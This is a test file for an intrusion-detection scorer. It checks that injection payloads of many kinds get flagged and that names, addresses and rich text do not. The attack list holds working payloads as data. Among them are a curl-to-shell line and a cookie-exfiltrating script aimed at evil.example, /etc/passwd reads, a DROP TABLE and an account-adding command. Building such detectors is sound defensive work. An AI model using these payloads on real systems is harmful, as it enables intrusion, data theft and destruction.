// Attack and benign cases per tag: each attack must reach the `log` threshold (25) with its tag, each benign
// value (names with apostrophes, SQL words in prose, URLs, addresses, non-Latin text, ordinary rich text in
// HTML mode) must stay below it.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createValueScorer } from '../engine.js';
import type { Tag } from '../types.js';

const score = createValueScorer();

const ATTACKS: [Tag, string][] = [
  ['sqli', "x' OR '1'='1"],
  ['sqli', "admin'--"],
  ['sqli', '1 UNION ALL SELECT username, password FROM users--'],
  ['sqli', '1) AND SLEEP(5)#'],
  ['sqli', "1'; DROP TABLE civicrm_contact; --"],
  ['sqli', '1 AND extractvalue(1,concat(0x7e,(SELECT version())))'],
  ['sqli', "'; WAITFOR DELAY '0:0:5'--"],
  ['sqli', '-1 UNI/**/ON SEL/**/ECT 1'.replace(/\/\*\*\//g, '') + ',2,3'],
  ['sqli', '1/*!50000union*/ /*!50000select*/ 1,2'],
  ['sqli', "' or 1=1 into outfile '/var/www/x.php'#"],
  ['sqli', '1 order by 12--'],
  ['sqli', '(select case when (1=1) then 1 else 0 end)'],
  ['sqli', 'SELECT * FROM information_schema.tables'],
  ['xss', '<script>alert(document.cookie)</script>'],
  ['xss', '<img src=x onerror=alert(1)>'],
  ['xss', '<svg/onload=alert`1`>'],
  ['xss', '"><iframe src="javascript:alert(1)"></iframe>'],
  ['xss', "javascript:alert('x')"],
  ['xss', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['xss', '" onmouseover="alert(1)" x="'],
  ['xss', "';alert(String.fromCharCode(88,83,83))//"],
  ['xss', '<div style="background:url(javascript:alert(1))">'],
  ['xss', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['xss', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['cmdi', '; cat /etc/passwd'],
  ['cmdi', '| whoami'],
  ['cmdi', '`id`'],
  ['cmdi', '$(curl http://evil.example/x.sh | sh)'],
  ['cmdi', '& ping -n 30 127.0.0.1 &'],
  ['cmdi', '; w${IFS}h${IFS}o${IFS}a${IFS}m${IFS}i'.replace(/\$\{IFS\}/g, '')],
  ['cmdi', '<!--#exec cmd="/bin/ls" -->'],
  ['cmdi', "system('id');"],
  ['cmdi', '() { :;}; /bin/bash -c "id"'],
  ['cmdi', '&& net user hacker Passw0rd /add'],
  ['traversal', '../../../../etc/passwd'],
  ['traversal', '..\\..\\..\\windows\\win.ini'],
  ['traversal', '....//....//....//etc/shadow'],
  ['traversal', '%2e%2e%2f%2e%2e%2fboot.ini'],
  ['lfi', 'php://filter/convert.base64-encode/resource=index.php'],
  ['lfi', '/etc/passwd'],
  ['lfi', 'file:///c:/windows/win.ini'],
  ['rfi', 'http://evil.example/shell.txt?'],
  ['ssti', '{{7*7}}'],
  ['ssti', "{{''.__class__.__mro__[1].__subclasses__()}}"],
  ['ssti', '{php}echo `id`;{/php}'],
  ['ssti', '${T(java.lang.Runtime).getRuntime().exec("id")}'],
  ['xxe', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>'],
  ['ldap', '*)(uid=*))(|(uid=*'],
  ['nosql', '{"$ne": null}'],
  ['nosql', "this.password == 'x' || '1'=='1'"],
  ['header', 'x\r\nSet-Cookie: session=attacker'],
  ['header', 'x%0d%0aLocation:%20http://evil.example/'],
];

const BENIGN: string[] = [
  "O'Brien",
  "D'Amore, Bins and O'Hara",
  "Siobhán O'Connor-Ní Bhriain",
  'Tom & Jerry Ltd.',
  'Johnson; Johnson',
  'Meet at 10:30 -- bring a friend',
  'Select your favourite colour from the list',
  'Union Street 12, 3rd floor',
  'Drop off at the back door; ring twice',
  'I like having true friends',
  '2 or 3 tickets please',
  '1950 or 1960',
  'email me at ann.smith+civi@example.org',
  'https://example.org/donate?campaign=spring&utm_source=mail',
  '+1 (555) 123-4567 ext. 89',
  '50% off: 10 items @ $5 each',
  'c/ caridad s/n, 2º 3ª',
  'Cat & Dog Rescue (Tel Aviv)',
  'שלום, אני רוצה לתרום 100 ₪',
  'مرحبا، أود التبرع',
  '東京都千代田区 1-1',
  'Привет, как дела?',
  '😀👍 thanks!!!',
  'The "best" charity - period.',
  'Q&A session: what is 2+2?',
  'He said: "it\'s 5\' 10" tall"',
  'id',
  'ls',
  'type 2 diabetes support group',
  'see ../README for details',
  '#1 fan, 100% committed',
  'C:\\Users\\Ann\\Documents\\receipt.pdf',
];

const RICH_TEXT: string[] = [
  '<p>Dear {contact.first_name},</p><p>Thank you for your <strong>generous</strong> gift.</p>',
  '<h1>Spring appeal</h1><ul><li><a href="https://example.org/donate">Donate</a></li><li><em>Volunteer</em></li></ul>',
  '<p><img src="https://example.org/logo.png" alt="Logo" width="120" style="float: right; margin: 0 0 1em 1em"></p>',
  '<table border="1"><tr><td style="color: #336699">Amount</td><td>€25</td></tr></table>',
  '<blockquote>Code &lt;script&gt; is shown, not run</blockquote><pre><code>SELECT * FROM civicrm_contact;</code></pre>',
  '<p>Use <a href="mailto:info@example.org">info@example.org</a> or call +44 20 7946 0958.</p>',
];

describe('ids detectors: attacks reach the log threshold with their tag', () => {
  for (const [tag, value] of ATTACKS) {
    it(`${tag}: ${JSON.stringify(value).slice(0, 70)}`, () => {
      const r = score(value);
      assert.ok(r.impact >= 25, `impact ${r.impact} (${r.hits.map((h) => h.id).join(', ')})`);
      assert.ok(r.tags.includes(tag), `tags ${r.tags.join(', ')}`);
    });
  }
});

describe('ids detectors: ordinary values stay below the log threshold', () => {
  for (const value of BENIGN) {
    it(JSON.stringify(value).slice(0, 70), () => {
      const r = score(value);
      assert.ok(r.impact < 25, `impact ${r.impact} (${r.hits.map((h) => h.id).join(', ')})`);
    });
  }
});

describe('ids detectors: HTML mode flags executable HTML only', () => {
  for (const value of RICH_TEXT) {
    it(`ordinary rich text passes: ${value.slice(0, 60)}`, () => {
      const r = score(value, 'html');
      assert.equal(r.impact, 0, r.hits.map((h) => h.id).join(', '));
    });
  }
  const executable = [
    '<p>Hi</p><script>fetch("//evil.example/?c="+document.cookie)</script>',
    '<p onclick="alert(1)">click</p>',
    '<a href=" javascript:alert(1)">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<p style="width: expression(alert(1))">x</p>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  ];
  for (const value of executable) {
    it(`executable HTML is flagged: ${value.slice(0, 60)}`, () => {
      const r = score(value, 'html');
      assert.ok(r.impact >= 25 && r.tags.includes('xss'), `impact ${r.impact}`);
    });
  }
  it('a bare <script> element alone is enough to block (≥ 75) in HTML mode', () => {
    assert.ok(score('<p>ok</p><script>alert(1)</script>', 'html').impact >= 75);
  });
});
